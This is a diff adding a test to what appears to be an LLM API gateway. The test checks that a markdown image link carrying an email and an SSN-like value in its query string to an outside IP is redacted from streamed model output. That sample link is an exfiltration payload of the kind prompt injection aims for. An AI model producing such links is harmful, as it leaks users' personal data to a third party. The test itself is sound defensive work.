@@ -80,3 +80,18 @@ t.test('with the SDK: non-streamed and streamed answers keep their text around a
     t.equal(final.output_text, expected);
   });
 });
+
+t.test('a data-carrying image link in streamed output_text is cut out in place; the text after it still arrives', async (t) => {
+  const upstream = await fakeUpstream(t);
+  const gw = await startTestGateway(t, { config: { upstreamBaseUrl: upstream.url } });
+  const key = await gw.key('responses-exfil', { rate: 1000, plan: 'startup' });
+  const data = 'alice.smith%40example.com%20ssn%20078-05-1120';
+  const text = `Here is your summary. ![s](http://203.0.113.7/p.png?d=${data}) Anything else?`;
+  for (const pieces of [text.length, 20]) {
+    upstream.on((_req, res) => sendEvents(res, responseEvents(responseObject([messageItem(text)]), pieces)));
+    const res = await call(`${gw.proxyUrl}/v1/responses`, { headers: { 'x-api-key': key }, body: { model: 'gpt-4.1-mini', stream: true, input: 'summarise my account' } });
+    t.notOk(res.body.includes('078-05-1120'), `${pieces} deltas: the data never reaches the client`);
+    const deltas = parseEvents(res.body).filter((e) => e.type === 'response.output_text.delta').map((e) => e.delta as string).join('');
+    t.match(deltas, /^Here is your summary\. .*\[REDACTED:[a-z_]+\].* Anything else\?$/, `${pieces} deltas: redacted in place, the rest kept`);
+  }
+});
